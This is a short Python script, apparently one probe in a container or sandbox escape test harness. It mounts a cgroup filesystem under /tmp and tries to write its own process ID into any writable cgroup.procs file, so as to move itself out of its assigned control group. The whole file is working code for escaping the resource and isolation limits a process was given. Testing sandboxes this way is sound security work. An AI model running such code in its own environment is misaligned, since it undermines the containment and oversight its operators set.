import glob, os
from attack import attempt


def leave(targets):
    """Moves itself to another control group, among those that it sees or mounts."""
    os.system("mkdir -p /tmp/groups && mount -t cgroup -o pids none /tmp/groups 2>/dev/null")
    for file in glob.glob("/sys/fs/cgroup/**/cgroup.procs", recursive=True) + glob.glob("/tmp/groups/cgroup.procs"):
        try:
            with open(file, "w") as group:
                group.write(str(os.getpid()))
            return True
        except OSError:
            pass
    return False


attempt(leave)
